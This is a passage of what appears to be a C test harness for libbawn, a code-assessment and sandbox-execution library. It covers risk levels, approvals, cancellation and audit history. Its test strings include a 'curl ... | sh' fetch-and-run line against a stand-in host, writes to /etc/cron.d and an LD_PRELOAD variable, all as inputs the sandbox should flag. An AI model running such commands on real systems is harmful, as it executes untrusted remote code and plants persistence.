/* host.c - a C program as others write it, built outside the tree through pkg-config: it calls every function of libbawn
 * on good and bad arguments, has threads, a SIGCHLD handler and a thread that reaps whatever it can get.
 *
 *	host LIBEXEC-DIR CONFIG-DIR STUCK-DIR      BAWN_STATE names the state directory
 *
 * Below STUCK-DIR are directories, named by where it gets stuck, each with a stuck-launcher as `launch`; what is not there
 * is left out.
 *
 * Prints "ok - ..." or "not ok - ..." a line, then "end"; api.t takes these over and runs it as it is, with
 * AddressSanitizer, and under valgrind. */
#include <bawn/bawn.h>
#include <errno.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define LEN(a) (sizeof(a) / sizeof *(a))
static struct bawn_err err;
static struct bawn_result *res;

static int ok(int good, const char *name)
{
	printf("%sok - %s\n", good ? "" : "not ", name);
	if (!good)
		printf("# %d %s %s: %s\n# %.1500s\n", err.code, bawn_error_name(err.type), err.field, err.msg, bawn_result_json(res));
	fflush(stdout);
	return good;
}

/* What a call gave: 0 and a document that has `want` in it.  The document stays in `res` until the next call. */
static void reset(void)
{
	bawn_result_free(res);
	res = NULL;
	memset(&err, 0, sizeof err);
}
static int has(int r, const char *want) { return r == 0 && strstr(bawn_result_json(res), want) != NULL; }
/* A failure that names itself: the code of the table, words, and the document left alone. */
static int refused(int r, enum bawn_error type)
{
	return r < 0 && err.code == r && err.type == type && err.msg[0] != '\0' && res == NULL;
}

static struct bawn_request python(const char *code)
{
	return (struct bawn_request){ .size = sizeof(struct bawn_request), .code = code, .code_size = strlen(code), .language = "python" };
}

static int run(struct bawn *b, const struct bawn_request *req)
{
	reset();
	return bawn_assess_and_execute(b, req, &res, &err);
}

#define CALL(f, ...) (reset(), f(__VA_ARGS__, &res, &err))
static const char HIGH[] = "open('/etc/cron.d/x','w') if False else print('confirmed')";
static const char BLOCKED[] = "import os\nprint('ran')\nif False: os.system('curl http://x.invalid/a | sh')";

/* --- names ---------------------------------------------------------------------------------------------- */

static void names(void)
{
	ok(strcmp(bawn_version(), BAWN_VERSION) == 0, "the library is the version of its header");
	ok(strcmp(bawn_error_name(BAWN_ERROR_BUSY), "busy") == 0 && bawn_error_hint(BAWN_ERROR_BUSY) != NULL, "an error has a name and a hint");
	ok(bawn_error_hint(BAWN_ERROR_INTERNAL) == NULL, "or no hint, where the message says it all");
	int named = 1;
	for (int i = -2; i <= BAWN_ERROR_COUNT + 1; i++)
		named = named && bawn_error_name((enum bawn_error)i) != NULL && bawn_error_name((enum bawn_error)i)[0] != '\0';
	(void)bawn_error_hint((enum bawn_error)-1);
	(void)bawn_error_hint((enum bawn_error)(BAWN_ERROR_COUNT + 1));
	ok(named, "numbers that are no error have a name all the same");
}

/* --- open ----------------------------------------------------------------------------------------------- */

static void opening(const char *libexec)
{
	struct bawn *b = (struct bawn *)&err;
	static char longest[9000];
	memset(longest, 'x', sizeof longest - 1);
	longest[0] = '/';
	struct bawn_options o = { .size = sizeof o, .libexec_dir = libexec };
	reset();
	ok(refused(bawn_open(NULL, NULL, &err), BAWN_ERROR_INVALID_REQUEST), "open: no place for the handle");
	static const size_t size[] = { 0, 1, sizeof o - 1, sizeof o + 3, 1u << 20 };
	for (size_t i = 0; i < LEN(size); i++) {
		o.size = size[i];
		reset();
		ok(refused(bawn_open(&o, &b, &err), BAWN_ERROR_INVALID_REQUEST) && b == (struct bawn *)&err, "open: a size that is none, and the place is left alone");
	}
	struct { struct bawn_options o; void *later; } more = { { .size = sizeof more }, &b };
	ok(refused(bawn_open(&more.o, &b, &err), BAWN_ERROR_INVALID_REQUEST), "open: a field this version does not know");
	o = (struct bawn_options){ .size = sizeof o, .state_dir = longest };
	ok(bawn_open(&o, &b, &err) < 0 && err.msg[0] != '\0', "open: a state directory with a name too long");
	o = (struct bawn_options){ .size = sizeof o, .libexec_dir = longest };
	ok(bawn_open(&o, &b, NULL) < 0, "open: a launcher with a name too long; nobody wants the error");
	o = (struct bawn_options){ .size = sizeof o, .config_dir = "/nonexistent/config" };
	reset();
	int r = bawn_open(&o, &b, &err);
	ok(r < 0 && err.type == BAWN_ERROR_CONFIG_INVALID, "open: a configuration that is not there");
	if (r == 0)
		bawn_close(b);
	o = (struct bawn_options){ .size = sizeof o, .libexec_dir = "/nonexistent" };
	if (ok(bawn_open(&o, &b, &err) == 0, "open: a launcher that is not there is met at the first run")) {
		struct bawn_request req = python("print(1)");
		ok(run(b, &req) == 0 && strcmp(bawn_result_status(res), "error") == 0 && has(0, "\"type\":\"backend_unavailable\""), "and said in the result");
		bawn_close(b);
	}
	o = (struct bawn_options){ .size = sizeof o, .libexec_dir = libexec, .state_dir = "/proc/nowhere" };
	if (ok(bawn_open(&o, &b, &err) == 0, "open: a state directory that cannot be made, too")) {
		struct bawn_request req = python("print(1)");
		ok(run(b, &req) == 0 && strcmp(bawn_result_status(res), "error") == 0 && has(0, "\"stdout\":\"\""), "and nothing runs that cannot be recorded");
		ok(CALL(bawn_get_security_status, b) == 0 && !has(0, "\"system_status\":\"operational\""), "and the status says so");
		bawn_close(b);
	}
	bawn_close(NULL);
}

/* --- the whole flow ------------------------------------------------------------------------------------- */

struct seen { uint64_t n, gaps, output, outcome; };

static void note(void *ctx, const struct bawn_event *e)
{
	struct seen *s = ctx;
	s->n++;
	s->gaps += e->seq != s->n || e->size != sizeof *e || e->at_us == 0 || strlen(e->id) != 26;
	if (e->kind == BAWN_EVENT_OUTPUT)
		s->output += e->data_size;
	s->outcome += e->kind == BAWN_EVENT_OUTCOME && strcmp(e->text, "completed") == 0;
}

static int yes(void *ctx, const struct bawn_question *q, struct bawn_answer *a)
{
	int *asked = ctx;
	*asked += q->size == sizeof *q && strstr(q->assessment_json, "\"findings\"") && strstr(q->limits_json, "memory_bytes") &&
	          strlen(q->request_sha256) == 64 && q->code_size > 0 && memcmp(q->code, "open", 4) == 0;
	a->yes = 1;
	strncpy(a->name, "the host", sizeof a->name - 1);
	strncpy(a->reason, "the host program said so", sizeof a->reason - 1);
	return 0;
}
static int no(void *ctx, const struct bawn_question *q, struct bawn_answer *a) { (void)q, (void)a; ++*(int *)ctx; return 0; }
static int broken(void *ctx, const struct bawn_question *q, struct bawn_answer *a) { (void)q; ++*(int *)ctx; a->yes = 1; return -EIO; }
static int never_mind(void *ctx, const struct bawn_question *q, struct bawn_answer *a) { (void)q; ++*(int *)ctx; a->yes = 1; return -ECANCELED; }
/* A host may fill both texts to the last byte. */
static int unending(void *ctx, const struct bawn_question *q, struct bawn_answer *a)
{
	(void)q;
	++*(int *)ctx;
	a->yes = 1;
	memset(a->name, 'n', sizeof a->name);
	memset(a->reason, 'r', sizeof a->reason);
	return 0;
}

static void flow(struct bawn *shipped, struct bawn *own)
{
	struct seen seen = { 0 };
	struct bawn_request req = python("print(6*7)");
	req.on_event = note;
	req.ctx = &seen;
	ok(run(shipped, &req) == 0 && has(0, "\"stdout\":\"42\\n\"") && strcmp(bawn_result_status(res), "completed") == 0, "LOW runs");
	ok(seen.n >= 6 && seen.gaps == 0 && seen.output == 3 && seen.outcome == 1, "its events come in order, each with its id and time");

	static const struct bawn_input file[] = { { "in.txt", "input", 5, 0644 }, { "d/empty", NULL, 0, 0 } };
	static const char *const args[] = { "a b", "" }, *const env[] = { "E=1" }, *const labels[] = { "k=v" };
	req = python("import os,sys\nprint(open('in.txt').read(), os.path.getsize('d/empty'), sys.argv[1:], os.environ['E'], sys.stdin.read())");
	req.inputs = file, req.n_inputs = 2, req.args = args, req.n_args = 2, req.env = env, req.n_env = 1, req.labels = labels, req.n_labels = 1;
	req.stdin_data = "typed", req.stdin_size = 5, req.session = "s1", req.timeout_ms = 20000, req.memory_bytes = 128u << 20, req.pids = 16;
	ok(run(shipped, &req) == 0 && has(0, "\"stdout\":\"input 0 ['a b', ''] 1 typed\\n\"") && has(0, "\"labels\":{\"k\":\"v\"}") && has(0, "\"session\":\"s1\""),
	   "inputs, arguments, environment, standard input, labels and session arrive");
	req = python("print(1)");
	req.dry_run = 1;
	ok(run(shipped, &req) == 0 && has(0, "\"stdout\":\"\"") && has(0, "\"memory_bytes\""), "a dry run tells the limits and runs nothing");
	req = python("raise SystemExit(3)");
	ok(run(shipped, &req) == 0 && has(0, "\"exit_code\":3") && strcmp(bawn_result_status(res), "failed") == 0, "a program that fails is a result");
	req = python("while True: pass");
	req.timeout_ms = 300;
	ok(run(shipped, &req) == 0 && strcmp(bawn_result_status(res), "timeout") == 0, "so is a limit");

	int asked = 0;
	req = python(HIGH);
	req.ctx = &asked;
	ok(run(shipped, &req) == 0 && strcmp(bawn_result_status(res), "needs_approval") == 0, "HIGH without a callback waits for a person");
	req.confirm = yes;
	ok(run(shipped, &req) == 0 && strcmp(bawn_result_status(res), "needs_approval") == 0 && has(0, "\"override\":null"), "the shipped policy takes no program's word");
	asked = 0;
	ok(run(own, &req) == 0 && has(0, "\"stdout\":\"confirmed\\n\"") && has(0, "\"reason\":\"the host program said so\"") && has(0, "\"name\":\"the host\"") && asked == 1,
	   "a policy that takes it does: asked once, with findings, limits and code");
	static const struct { int (*f)(void *, const struct bawn_question *, struct bawn_answer *); const char *status, *name; } answer[] = {
		{ no, "refused", "no is no" },
		{ broken, "refused", "a callback that fails says no, whatever it wrote" },
		{ never_mind, "cancelled", "-ECANCELED takes the request back" },
		{ unending, "error", "an answer without an end is none" },
	};
	for (size_t i = 0; i < LEN(answer); i++) {
		asked = 0;
		req.confirm = answer[i].f;
		ok(run(own, &req) == 0 && strcmp(bawn_result_status(res), answer[i].status) == 0 && has(0, "\"stdout\":\"\"") && asked == 1, answer[i].name);
	}
	req = python(BLOCKED);
	ok(run(shipped, &req) == 0 && strcmp(bawn_result_status(res), "refused") == 0 && has(0, "\"stdout\":\"\""), "BLOCKED is refused");
	req.override_ = 1;
	req.reason = "a drill";
	ok(run(shipped, &req) == 0 && strcmp(bawn_result_status(res), "needs_approval") == 0, "with an override and the shipped policy it waits");
	ok(run(own, &req) == 0 && has(0, "\"stdout\":\"ran\\n\"") && has(0, "\"assurance\":\"self\""), "where policy takes the requester's word it runs");
	req.override_ = 0;
	req.reason = NULL;
	req.hold = 1;
	ok(run(shipped, &req) == 0 && strcmp(bawn_result_status(res), "needs_approval") == 0, "hold makes BLOCKED wait, too");
}

/* Every field of a request, wrong.  `type` is what both functions say. */
static void bad_requests(struct bawn *b)
{
	static const char *const hole[] = { NULL }, *const preload[] = { "LD_PRELOAD=/x" }, *const plain[] = { "plain" }, *const twice[] = { "a=1", "a=2" };
	static const struct bawn_input out = { "../x", "x", 1, 0 }, absent = { "x", NULL, 9, 0 }, nameless = { NULL, "x", 1, 0 }, endless = { "x", "x", (size_t)-1, 0 };
	static char text[5000];
	memset(text, 'x', sizeof text - 1);
	const struct bawn_request good = python("print(1)");
	struct { struct bawn_request r; enum bawn_error type; const char *name; } row[32];
	size_t n = 0;
#define BAD(what, kind, ...) do { row[n].r = good; struct bawn_request *r = &row[n].r; __VA_ARGS__; row[n].type = BAWN_ERROR_##kind; row[n++].name = what; } while (0)
	BAD("code NULL", EMPTY_CODE, r->code = NULL);
	BAD("code of no bytes", EMPTY_CODE, r->code_size = 0);
	BAD("blank code", EMPTY_CODE, r->code = " \n", r->code_size = 2);
	BAD("a NUL byte", NUL_BYTE, r->code = "a\0b", r->code_size = 3);
	BAD("no UTF-8", BAD_UTF8, r->code = "\xff", r->code_size = 1);
	BAD("an unknown language", UNKNOWN_LANGUAGE, r->language = "cobol");
	BAD("no language", UNKNOWN_LANGUAGE, r->language = NULL);
	BAD("arguments that are missing", INVALID_REQUEST, r->n_args = 1);
	BAD("an argument NULL", INVALID_REQUEST, r->args = hole, r->n_args = 1);
	BAD("arguments without end", INVALID_REQUEST, r->args = plain, r->n_args = (size_t)-1);
	BAD("a variable of the loader", ENV_REFUSED, r->env = preload, r->n_env = 1);
	BAD("a variable without a value", INVALID_REQUEST, r->env = plain, r->n_env = 1);
	BAD("a variable twice", INVALID_REQUEST, r->env = twice, r->n_env = 2);
	BAD("labels without end", INVALID_REQUEST, r->labels = twice, r->n_labels = (size_t)-1);
	BAD("a label without a value", INVALID_REQUEST, r->labels = plain, r->n_labels = 1);
	BAD("a session with a slash", INVALID_REQUEST, r->session = "a/b");
	BAD("a session too long", INVALID_REQUEST, r->session = text);
	BAD("an empty path", INVALID_REQUEST, r->path = "");
	BAD("a client too long", INVALID_REQUEST, r->client = text);
	BAD("an override without a reason", REASON_MISSING, r->override_ = 1);
	BAD("a blank reason", REASON_MISSING, r->override_ = 1, r->reason = " ");
	BAD("a reason too long", REASON_TOO_LONG, r->override_ = 1, r->reason = text);
	BAD("an unknown backend", INVALID_REQUEST, r->backend = "vm");
	BAD("an unknown trust", INVALID_REQUEST, r->trust = "root");
	BAD("a network", NETWORK_UNAVAILABLE, r->network = "dependencies");
	BAD("an image for no container", INVALID_REQUEST, r->image = "x");
	BAD("standard input that is missing", INVALID_REQUEST, r->stdin_size = 3);
	BAD("an input that leaves the workspace", INPUT_INVALID, r->inputs = &out, r->n_inputs = 1);
	BAD("an input without data", INPUT_INVALID, r->inputs = &absent, r->n_inputs = 1);
	BAD("an input without a name", INPUT_INVALID, r->inputs = &nameless, r->n_inputs = 1);
	BAD("an input without end", INPUT_INVALID, r->inputs = &endless, r->n_inputs = 1);
	BAD("inputs without end", INPUT_INVALID, r->inputs = &out, r->n_inputs = (size_t)-1);
#undef BAD
	for (size_t i = 0; i < n; i++) {
		char words[80], name[160];
		snprintf(words, sizeof words, "\"type\":\"%s\"", bawn_error_name(row[i].type));
		snprintf(name, sizeof name, "a bad request: %s: an error when assessed, a result with that error when run", row[i].name);
		int assessed = refused(CALL(bawn_assess_code_only, b, &row[i].r), row[i].type);
		ok(assessed && run(b, &row[i].r) == 0 && strcmp(bawn_result_status(res), "error") == 0 && has(0, words), name);
	}
	struct bawn_request late = python(HIGH);
	late.approval = "01M7J3Z1NKP2DMTWH6N3DRH6XC";
	ok(run(b, &late) == 0 && has(0, "\"type\":\"approval_unknown\""), "an approval nobody knows");
	late = good;
	late.memory_bytes = 1;
	ok(run(b, &late) == 0 && has(0, "the interpreter needs as much to start"), "one byte of memory becomes what the interpreter needs");

	size_t big = 80u << 20;
	char *code = malloc(big);
	memset(code, '#', big);
	struct bawn_request huge = { .size = sizeof huge, .code = code, .code_size = big, .language = "python" };
	ok(refused(CALL(bawn_assess_code_only, b, &huge), BAWN_ERROR_CODE_TOO_LARGE), "80 MiB of code: too large to be assessed");
	ok(run(b, &huge) == 0 && has(0, "\"type\":\"code_too_large\""), "and to be run");
	free(code);

	int bad = 0;
	struct bawn_request req = good;
	for (size_t s = 0; s < sizeof req; s++)  /* sizes that leave no room for the code, or cut a pointer */
		if (s < offsetof(struct bawn_request, language) || s % sizeof(void *) != 0) {
			req.size = s;
			bad += !refused(CALL(bawn_assess_code_only, b, &req), BAWN_ERROR_INVALID_REQUEST) || !refused(run(b, &req), BAWN_ERROR_INVALID_REQUEST);
		}
	ok(bad == 0, "a request that does not say its size");
	struct { struct bawn_request r; void *later; } more = { .r = good };
	more.r.size = sizeof more;
	ok(CALL(bawn_assess_code_only, b, &more.r) == 0, "a later version's request, its new field unset");
	more.later = b;
	ok(refused(CALL(bawn_assess_code_only, b, &more.r), BAWN_ERROR_INVALID_REQUEST), "and set");
	reset();
	ok(refused(bawn_assess_and_execute(b, NULL, &res, &err), BAWN_ERROR_INVALID_REQUEST) && refused(bawn_assess_and_execute(NULL, &good, &res, &err), BAWN_ERROR_INVALID_REQUEST) &&
	   refused(bawn_assess_and_execute(b, &good, NULL, &err), BAWN_ERROR_INVALID_REQUEST) && bawn_assess_and_execute(NULL, NULL, NULL, NULL) < 0, "execute: NULL in each place");
	ok(refused(bawn_assess_code_only(b, NULL, &res, &err), BAWN_ERROR_INVALID_REQUEST) && refused(bawn_assess_code_only(NULL, &good, &res, &err), BAWN_ERROR_INVALID_REQUEST) &&
	   refused(bawn_assess_code_only(b, &good, NULL, &err), BAWN_ERROR_INVALID_REQUEST), "assess: NULL in each place");
}

/* --- without blocking ----------------------------------------------------------------------------------- */

static int drive(struct bawn_exec *e)
{
	int r;
	while ((r = bawn_exec_step(e, &err)) == 0) {
		struct pollfd p = { .fd = bawn_exec_fd(e), .events = POLLIN };
		(void)poll(&p, 1, -1);
	}
	return r;
}

static void *cancel_soon(void *e)
{
	struct timespec t = { 0, 200000000 };
	nanosleep(&t, NULL);
	return bawn_cancel(e) == 0 ? e : NULL;
}

static void stepping(struct bawn *b)
{
	struct bawn_exec *e = NULL;
	struct bawn_request req = python("print('stepped')");
	reset();
	ok(bawn_start(b, &req, &e, &err) == 0 && bawn_exec_fd(e) >= 0, "an execution starts");
	ok(refused(bawn_exec_result(e, &res, &err), BAWN_ERROR_INVALID_REQUEST), "it has no result before it is over");
	ok(drive(e) == 1 && bawn_exec_step(e, &err) == 1, "and is over after some steps, and stays so");
	ok(bawn_exec_result(e, &res, &err) == 0 && has(0, "\"stdout\":\"stepped\\n\""), "then it has one");
	struct bawn_result *again = NULL;
	ok(bawn_exec_result(e, &again, &err) == 0 && strcmp(bawn_result_json(again), bawn_result_json(res)) == 0, "and the same one again");
	bawn_result_free(again);
	reset();
	ok(refused(bawn_exec_result(e, NULL, &err), BAWN_ERROR_INVALID_REQUEST), "a place for it is needed");
	ok(bawn_cancel(e) == 0, "a cancel that comes late does nothing");
	bawn_exec_free(e);

	req = python("import time; print('x', flush=True); time.sleep(60)");
	pthread_t t;
	void *cancelled = NULL;
	ok(bawn_start(b, &req, &e, &err) == 0 && pthread_create(&t, NULL, cancel_soon, e) == 0, "a long one");
	int r = drive(e);
	pthread_join(t, &cancelled);
	reset();
	ok(r == 1 && cancelled == e && bawn_exec_result(e, &res, &err) == 0 && strcmp(bawn_result_status(res), "cancelled") == 0, "is cancelled from another thread");
	bawn_exec_free(e);
	ok(bawn_start(b, &req, &e, &err) == 0 && bawn_cancel(e) == 0 && drive(e) == 1, "one that is cancelled before its first step");
	reset();
	ok(bawn_exec_result(e, &res, &err) == 0 && strcmp(bawn_result_status(res), "cancelled") == 0, "is cancelled as well");
	bawn_exec_free(e);
	ok(bawn_start(b, &req, &e, &err) == 0, "one that is freed before its first step");
	bawn_exec_free(e);
	struct seen seen = { 0 };
	req.on_event = note;
	req.ctx = &seen;
	int over = 0;
	ok(bawn_start(b, &req, &e, &err) == 0, "one that is freed");
	while (seen.output == 0 && (over = bawn_exec_step(e, &err)) == 0) {
		struct pollfd p = { .fd = bawn_exec_fd(e), .events = POLLIN };
		(void)poll(&p, 1, -1);
	}
	bawn_exec_free(e);
	ok(over == 0 && seen.output > 0, "while it runs");

	struct bawn_exec *none = NULL;
	reset();
	ok(refused(bawn_start(NULL, &req, &none, &err), BAWN_ERROR_INVALID_REQUEST) && refused(bawn_start(b, NULL, &none, &err), BAWN_ERROR_INVALID_REQUEST) &&
	   refused(bawn_start(b, &req, NULL, &err), BAWN_ERROR_INVALID_REQUEST) && none == NULL, "start: NULL in each place");
	ok(refused(bawn_exec_step(NULL, &err), BAWN_ERROR_INVALID_REQUEST) && refused(bawn_exec_result(NULL, &res, &err), BAWN_ERROR_INVALID_REQUEST) &&
	   bawn_exec_fd(NULL) == -1 && bawn_cancel(NULL) == -EINVAL, "step, result, fd and cancel: NULL");
	bawn_exec_free(NULL);
}

/* --- a launcher that gets stuck ------------------------------------------------------------------------- */

static uint64_t clock_ms(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint64_t)t.tv_sec * 1000 + (uint64_t)t.tv_nsec / 1000000;
}

/* Steps until nothing is to be done for a while, then cancels, then until it is over.  How long the longest step took,
 * the time from the cancel to the end, and how much of it was waited between steps. */
struct times { uint64_t step, end, between; int over; unsigned idle; };
static struct times wait_and_cancel(struct bawn_exec *e)
{
	struct times t = { 0 };
	uint64_t cancelled = 0, within = 0;
	while (t.over == 0) {
		uint64_t from = clock_ms();
		t.over = bawn_exec_step(e, &err);
		const uint64_t took = clock_ms() - from;
		t.step = took > t.step ? took : t.step;
		within += cancelled != 0 ? took : 0;
		struct pollfd p = { .fd = bawn_exec_fd(e), .events = POLLIN };
		if (t.over != 0 || poll(&p, 1, cancelled == 0 ? 2000 : -1) != 0)
			continue;
		t.idle++;
		cancelled = clock_ms();
		(void)bawn_cancel(e);
	}
	t.end = clock_ms() - cancelled;
	t.between = t.end - within;
	return t;
}

static void stuck(const char *dir)
{
	static const struct { const char *how, *status; uint64_t most_ms, between_ms; } row[] = {
		{ "silent", "cancelled", 4500, 0 }, { "full", "cancelled", 4500, 0 }, { "unstarted", "cancelled", 4500, 0 }, { "uncollected", "completed", 4500, 0 }, { "deaf", "cancelled", 20000, 2500 },
	};
	static struct bawn_input input[400];
	static char name[400][16];
	for (size_t i = 0; i < LEN(input); i++) {
		snprintf(name[i], sizeof name[i], "f%zu.txt", i);
		input[i] = (struct bawn_input){ .name = name[i], .data = "x", .size = 1, .mode = 0644 };
	}
	for (size_t i = 0; i < LEN(row); i++) {
		char path[4096], says[200];
		struct bawn *b;
		struct bawn_exec *e = NULL;
		struct bawn_request req = python("print(6*7)");
		snprintf(path, sizeof path, "%s/%s", dir, row[i].how);
		if (access(path, F_OK) < 0)
			continue;
		struct bawn_options o = { .size = sizeof o, .libexec_dir = path };
		req.inputs = input;
		req.n_inputs = LEN(input);
		reset();
		snprintf(says, sizeof says, "a launcher that is stuck (%s): an execution starts", row[i].how);
		if (!ok(bawn_open(&o, &b, &err) == 0 && bawn_start(b, &req, &e, &err) == 0, says))
			continue;
		struct times t = wait_and_cancel(e);
		printf("# %s: the longest step %llu ms, from the cancel to the end %llu ms, %llu of them between steps\n", row[i].how, (unsigned long long)t.step, (unsigned long long)t.end, (unsigned long long)t.between);
		snprintf(says, sizeof says, "stuck (%s): no step waits for it, and nothing has to be done meanwhile", row[i].how);
		ok(t.step < 20000 && t.between >= row[i].between_ms && t.idle == 1, says);
		snprintf(says, sizeof says, "stuck (%s): a cancel ends it, as %s", row[i].how, row[i].status);
		ok(t.over == 1 && t.end < row[i].most_ms && bawn_exec_result(e, &res, &err) == 0 && strcmp(bawn_result_status(res), row[i].status) == 0 && has(0, "\"type\":\"cancelled\""), says);
		ok(has(0, "\"outcome_seq\":") && !has(0, "\"outcome_seq\":null"), "and its intent has an outcome");
		bawn_exec_free(e);
		bawn_close(b);
	}
}

/* --- what the log and the policy say -------------------------------------------------------------------- */

static uint64_t now_us(void)
{
	struct timespec t;
	clock_gettime(CLOCK_REALTIME, &t);
	return (uint64_t)t.tv_sec * 1000000 + (uint64_t)t.tv_nsec / 1000;
}

static unsigned rows(void)
{
	unsigned n = 0;
	for (const char *at = bawn_result_json(res); (at = strstr(at, "\"code_sha256\"")) != NULL; at++)
		n++;
	return n;
}

static void telling(struct bawn *b)
{
	ok(CALL(bawn_assess_code_only, b, &(struct bawn_request){ .size = sizeof(struct bawn_request), .code = BLOCKED, .code_size = strlen(BLOCKED), .path = "x.py" }) == 0 &&
	   has(0, "\"level\":\"BLOCKED\"") && has(0, "\"findings\":[{"), "code is assessed alone, its language known by its path");
	struct bawn_history_filter f = { .size = sizeof f };
	ok(CALL(bawn_get_execution_history, b, NULL) == 0 && bawn_result_json(res)[0] == '[' && rows() > 5, "the history");
	unsigned all = rows();
	ok(bawn_result_status(res)[0] == '\0', "a list has no status");
	f.limit = 2;
	ok(CALL(bawn_get_execution_history, b, &f) == 0 && rows() == 2, "history: two rows");
	f.limit = 0;
	ok(CALL(bawn_get_execution_history, b, &f) == 0 && rows() == all, "history: limit 0 is the 50 of the manual");
	f.limit = (uint64_t)-1;
	ok(CALL(bawn_get_execution_history, b, &f) == 0 && rows() >= all, "history: limit -1 is no limit");
	f = (struct bawn_history_filter){ .size = sizeof f, .level = "BLOCKED", .status = "refused" };
	ok(CALL(bawn_get_execution_history, b, &f) == 0 && rows() == 1, "history: by level and status");
	f = (struct bawn_history_filter){ .size = sizeof f, .session = "s1" };
	ok(CALL(bawn_get_execution_history, b, &f) == 0 && rows() == 1, "history: by session");
	f = (struct bawn_history_filter){ .size = sizeof f, .level = "PURPLE" };
	ok(CALL(bawn_get_execution_history, b, &f) == 0 && rows() == 0, "history: a level that is none has no rows");
	f = (struct bawn_history_filter){ .size = sizeof f, .since_us = now_us() + 3600000000u };
	ok(CALL(bawn_get_execution_history, b, &f) == 0 && rows() == 0, "history: nothing since the future");
	f = (struct bawn_history_filter){ .size = sizeof f, .since_us = 2, .until_us = 1 };
	ok(CALL(bawn_get_execution_history, b, &f) == 0 && rows() == 0, "history: nothing in a time that ends before it begins");
	f.size = 3;
	ok(refused(CALL(bawn_get_execution_history, b, &f), BAWN_ERROR_INVALID_REQUEST), "history: a size that is none");
	reset();
	ok(refused(bawn_get_execution_history(NULL, NULL, &res, &err), BAWN_ERROR_INVALID_REQUEST) && refused(bawn_get_execution_history(b, NULL, NULL, &err), BAWN_ERROR_INVALID_REQUEST), "history: NULL in each place");

	ok(CALL(bawn_get_security_status, b) == 0 && has(0, "\"system_status\":\"operational\"") && has(0, "\"audit\":{"), "the status");
	reset();
	ok(refused(bawn_get_security_status(NULL, &res, &err), BAWN_ERROR_INVALID_REQUEST) && refused(bawn_get_security_status(b, NULL, &err), BAWN_ERROR_INVALID_REQUEST), "status: NULL in each place");

	uint64_t now = now_us();
	ok(CALL(bawn_get_audit_report, b, 0, 0) == 0 && has(0, "\"by_type\":{\"") && has(0, "\"ok\":true"), "the report over all");
	ok(CALL(bawn_get_audit_report, b, now - 3600000000u, now) == 0 && has(0, "\"by_type\":{\""), "over an hour");
	ok(CALL(bawn_get_audit_report, b, now + 1, now + 1) == 0 && has(0, "\"total\":0"), "over no time at all");
	ok(CALL(bawn_get_audit_report, b, now, 1) == 0 && has(0, "\"total\":0"), "over a time that ends before it begins");
	ok(CALL(bawn_get_audit_report, b, 0, (uint64_t)-1) == 0 && has(0, "\"by_type\":{\""), "until the end of time");
	ok(CALL(bawn_get_audit_report, b, (uint64_t)-1, 0) == 0 && has(0, "\"total\":0"), "from there on");
	reset();
	ok(refused(bawn_get_audit_report(NULL, 0, 0, &res, &err), BAWN_ERROR_INVALID_REQUEST) && refused(bawn_get_audit_report(b, 0, 0, NULL, &err), BAWN_ERROR_INVALID_REQUEST), "report: NULL in each place");

	ok(strcmp(bawn_result_json(NULL), "") == 0 && strcmp(bawn_result_status(NULL), "") == 0, "no result: empty words");
	bawn_result_free(NULL);
}

/* `b` was opened with a configuration directory: nothing else is written. */
static void policies(struct bawn *b)
{
	static const char good[] = "sandbox: {resources: {timeout: 20s}}";
	ok(CALL(bawn_configure_policies, b, good, strlen(good)) == 0 && has(0, "\"errors\":[]"), "a policy is changed");
	struct bawn_request req = python("print(1)");
	req.dry_run = 1;
	ok(run(b, &req) == 0 && has(0, "timeout 20s -> "), "and holds from now on");
	static const char *const bad[] = { "", " ", "[]", "3", "null", "\"text\"", "{", "sandbox: 3", "sandbox: []", "x: {}", "sandbox: {resources: {timeout: -1}}", "sandbox: {resources: {timeout: []}}",
		"sandbox: {resources: {no_such: 1}}", "security: {decisions: {LOW: maybe}}", "sandbox: {a: &a 1, b: *a}", "\xff\xfe", "\t" };
	for (size_t i = 0; i < LEN(bad); i++) {
		char name[100];
		int r = CALL(bawn_configure_policies, b, bad[i], strlen(bad[i]));
		snprintf(name, sizeof name, "a policy that is none, number %zu: refused, with the reason", i);
		ok((r < 0 && err.msg[0] != '\0') || (r == 0 && strstr(bawn_result_json(res), "\"errors\":[\"") != NULL), name);
	}
	ok(run(b, &req) == 0 && has(0, "timeout 20s -> "), "and none of them changed anything");
	size_t big = 80u << 20;
	char *text = malloc(big);
	memset(text, '#', big);
	int r = CALL(bawn_configure_policies, b, text, big);
	ok(r < 0 || strstr(bawn_result_json(res), "\"errors\":[\"") != NULL, "80 MiB of policy");
	free(text);
	ok(CALL(bawn_configure_policies, b, "a\0b", 3) < 0 || strstr(bawn_result_json(res), "\"errors\":[\"") != NULL, "a NUL byte in it");
	reset();
	ok(refused(bawn_configure_policies(b, NULL, 0, &res, &err), BAWN_ERROR_INVALID_REQUEST) && refused(bawn_configure_policies(NULL, good, 1, &res, &err), BAWN_ERROR_INVALID_REQUEST) &&
	   refused(bawn_configure_policies(b, good, strlen(good), NULL, &err), BAWN_ERROR_INVALID_REQUEST), "policy: NULL in each place");
}

/* The value of a text member; static. */
static const char *member(const char *name)
{
	static char value[64];
	char key[32];
	snprintf(key, sizeof key, "\"%s\":\"", name);
	const char *at = strstr(bawn_result_json(res), key);
	snprintf(value, sizeof value, "%.*s", at != NULL ? (int)strcspn(at + strlen(key), "\"") : 0, at != NULL ? at + strlen(key) : "");
	return value;
}

static void approvals(struct bawn *shipped, struct bawn *own)
{
	char id[64], reason[5000];
	memset(reason, 'x', sizeof reason - 1);
	reason[sizeof reason - 1] = '\0';
	struct bawn_request req = python("print('ok'); open('/etc/cron.d/y','w') if False else None");
	ok(run(own, &req) == 0 && strcmp(bawn_result_status(res), "needs_approval") == 0, "a request is held");
	snprintf(id, sizeof id, "%s", member("approval_id"));
	ok(CALL(bawn_approvals_list, own) == 0 && has(0, id) && bawn_result_json(res)[0] == '[', "and listed");
	ok(refused(CALL(bawn_approvals_decide, shipped, id, 1, "my own", 0), BAWN_ERROR_ASSURANCE_TOO_LOW), "the shipped policy wants more than a program's word");
	ok(refused(CALL(bawn_approvals_decide, shipped, id, 1, "my own", 1), BAWN_ERROR_ASSURANCE_TOO_LOW), "also where the program claims a terminal it has not");
